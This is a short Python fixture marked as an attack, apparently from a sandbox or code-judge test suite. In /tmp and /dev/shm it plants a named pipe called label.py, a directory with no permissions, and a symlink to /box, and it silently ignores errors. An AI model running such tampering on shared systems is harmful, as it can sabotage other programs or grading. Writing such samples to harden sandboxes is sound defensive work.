#{weigh_wrong}
# <attack>
import os

for _folder in ("/tmp", "/dev/shm"):
    try:
        os.mkfifo(_folder + "/label.py")
        os.mkdir(_folder + "/closed", 0)
        os.symlink("/box", _folder + "/link")
    except OSError:
        pass
# </attack>
